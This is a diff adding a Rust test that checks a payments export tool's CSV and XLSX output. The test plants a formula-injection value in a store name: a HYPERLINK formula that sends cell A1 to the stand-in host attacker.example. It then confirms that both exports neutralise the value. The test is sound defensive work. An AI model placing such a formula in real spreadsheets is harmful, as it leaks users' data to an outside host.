@@ -142,3 +142,55 @@ fn refused_ranges_write_nothing_and_say_why() {
     assert!(stderr(&refused).contains("--market \"MX\": expected CO or PE"), "{}", stderr(&refused));
     assert!(!out.exists(), "a refused export leaves no file");
 }
+
+/// A part of an .xlsx file (a zip of XML parts), as text.
+fn xlsx_part(path: &std::path::Path, part: &str) -> String {
+    use std::io::Read;
+    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).expect("the workbook exists")).expect("a zip");
+    let mut text = String::new();
+    zip.by_name(part).expect(part).read_to_string(&mut text).unwrap();
+    text
+}
+
+#[test]
+fn an_xlsx_export_holds_the_csvs_rows_with_numbers_as_numbers_and_text_never_a_formula() {
+    let ctx = imported();
+    // A store name a buyer-facing shop could have: a formula if it were one.
+    let conn = rusqlite::Connection::open(&ctx.db).unwrap();
+    conn.execute(
+        "UPDATE orders SET store = '=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")' WHERE order_id = 'R-001'",
+        [],
+    )
+    .unwrap();
+    drop(conn);
+    let export = |file: &str| {
+        let out = ctx.path(file);
+        let args = ["export", "payments", "--from", "2026-03-01", "--to", "2026-03-31", "--out"];
+        stdout(&ctx.ok(args.map(Into::into).into_iter().chain([out.clone().into_os_string()])))
+    };
+    assert_eq!(export("all.csv").trim(), format!("{}: 20 row(s)", ctx.path("all.csv").display()));
+    assert_eq!(export("all.xlsx").trim(), format!("{}: 20 row(s)", ctx.path("all.xlsx").display()));
+    let csv_rows = rows(&ctx, "all.csv", PAYMENT_HEADER);
+    assert!(csv_rows[0].contains(",\"'=HYPERLINK("), "the CSV neutralises it: {}", csv_rows[0]);
+
+    let sheet = xlsx_part(&ctx.path("all.xlsx"), "xl/worksheets/sheet1.xml");
+    // Written in constant memory: strings are inline in the sheet.
+    let strings = &sheet;
+    assert_eq!(sheet.matches("<row ").count(), 21, "the header and 20 rows, as in the CSV");
+    assert!(!sheet.contains("<f>"), "no formula in any cell");
+    // The store name is a string, as typed (a string cell is never evaluated).
+    assert!(
+        strings.contains(
+            r#"<c r="E2" t="inlineStr"><is><t>=HYPERLINK("http://attacker.example/?"&amp;A1,"Click")</t></is></c>"#
+        ),
+        "{strings}"
+    );
+    assert!(strings.contains("<t>Librería Cóndor</t>"), "accents are kept");
+    // D-001's 150000.00 COP is a number cell finance can add up.
+    assert!(sheet.contains(r#"<c r="J2" s="1"><v>150000</v></c>"#), "amounts are numbers");
+    assert!(sheet.contains(r#"<c r="J21" s="1"><v>1234.5</v></c>"#), "1,234.50 PEN too");
+    let header: Vec<&str> = PAYMENT_HEADER.split(',').collect();
+    for name in header {
+        assert!(strings.contains(&format!(">{name}<")), "header {name}");
+    }
+}
